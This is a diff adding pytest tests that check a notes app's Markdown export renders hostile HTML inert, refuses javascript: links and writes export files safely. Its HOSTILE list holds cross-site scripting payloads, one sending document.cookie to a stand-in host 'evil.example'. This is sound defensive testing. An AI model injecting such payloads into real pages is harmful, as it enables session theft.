@@ -163,3 +163,106 @@ def test_an_article_without_notes_exports_cleanly(store: NoteStore) -> None:
     front, entries = parse_markdown(to_markdown([item]))
     assert front["source"] == "aleppo.txt" and entries == []
     assert json.loads(to_json([item]))["total"] == 0
+
+
+# -- Markdown export never passes HTML through (issue 10 item 13) -----------------------------
+
+HOSTILE = [
+    '<img src=x onerror="alert(1)">',
+    "<script>fetch('https://evil.example/'+document.cookie)</script>",
+    "[click me](javascript:alert(1))",
+    "![pixel](https://tracker.example/p.png?u=1)",
+    "<https://tracker.example/autolink>",
+    "&lt;script&gt; and \\[escaped\\] and <!-- comment -->",
+    "[ref]: javascript:alert(2)",
+]
+
+
+def rendered(markdown: str) -> str:
+    """The export as a notes app that renders HTML in Markdown would show it, with links
+    not vetted (markdown-it itself refuses javascript: links; not every renderer does)."""
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark", {"html": True})
+    md.validateLink = lambda _url: True  # type: ignore[method-assign]
+    body = markdown.split("---\n", 2)[2]  # without the front matter
+    return md.render(body)
+
+
+def test_html_in_quoted_text_notes_and_titles_is_exported_inert(store: NoteStore) -> None:
+    article = make_article([f"Title {HOSTILE[0]}", *HOSTILE])
+    saved = store.remember_article(article)
+    for i, phrase in enumerate(HOSTILE):
+        add(store, article, phrase, note=HOSTILE[(i + 1) % len(HOSTILE)])
+    add(store, article, "[click me]", kind="quote", label=HOSTILE[1])
+    markdown = to_markdown([collect(store, store.article(saved.id))])
+    html = rendered(markdown)
+    for tag in ("<img", "<script", "<a ", "<!--"):
+        assert tag not in html, f"{tag} rendered live:\n{html}"
+    # The text itself is all still there, shown as text.
+    assert "&lt;script&gt;fetch(" in html and "[click me](javascript:alert(1))" in html
+    assert "![pixel](https://tracker.example/p.png?u=1)" in html
+
+
+def test_a_source_that_is_not_a_web_address_is_not_made_a_link(store: NoteStore) -> None:
+    article = make_article(url="javascript:alert(1)")
+    first = make_article([*PARAGRAPHS, "Other."], url="https://e.org/a")
+    add(store, article, "70 percent", note="n")
+    add(store, first, "70 percent", note="m")
+    html = rendered(to_markdown([collect(store, s) for s in store.articles()]))
+    assert 'href="javascript:' not in html and 'href="https://e.org/a"' in html
+
+
+# -- writing an export file: whole or not at all, with the umask (issue 10 item 7) -----------
+
+WRITE_WITH_A_SIZE_LIMIT = r"""
+import resource, signal, sys
+from pathlib import Path
+signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file size limit stands in for a full disk
+resource.setrlimit(resource.RLIMIT_FSIZE, (65536, 65536))
+from reader.ui.notes_commands import _write_new
+try:
+    _write_new(Path(sys.argv[1]), "notes", ".md", "x" * 200_000)
+except OSError as error:
+    print("FAILED", error.strerror)
+else:
+    print("WROTE")
+"""
+
+
+def test_an_export_from_the_palette_that_fails_leaves_no_file(tmp_path: Path) -> None:
+    import os
+    import subprocess
+    import sys
+
+    from tests.conftest import ROOT
+
+    result = subprocess.run(
+        [sys.executable, "-c", WRITE_WITH_A_SIZE_LIMIT, str(tmp_path)],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "PYTHONPATH": str(ROOT)},
+        timeout=60,
+        check=False,
+    )
+    assert result.stdout.startswith("FAILED"), result.stdout + result.stderr
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_write_new_file_never_overwrites_and_follows_the_umask(tmp_path: Path) -> None:
+    import os
+
+    from reader.notes.export import write_export_file
+
+    target = tmp_path / "notes.md"
+    target.write_text("the user's own file", encoding="utf-8")
+    with pytest.raises(FileExistsError):
+        write_export_file(target, "new", overwrite=False)
+    assert target.read_text(encoding="utf-8") == "the user's own file"
+    old = os.umask(0o027)
+    try:
+        write_export_file(tmp_path / "other.md", "new", overwrite=False)
+    finally:
+        os.umask(old)
+    assert (tmp_path / "other.md").stat().st_mode & 0o777 == 0o640
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.md", "other.md"]
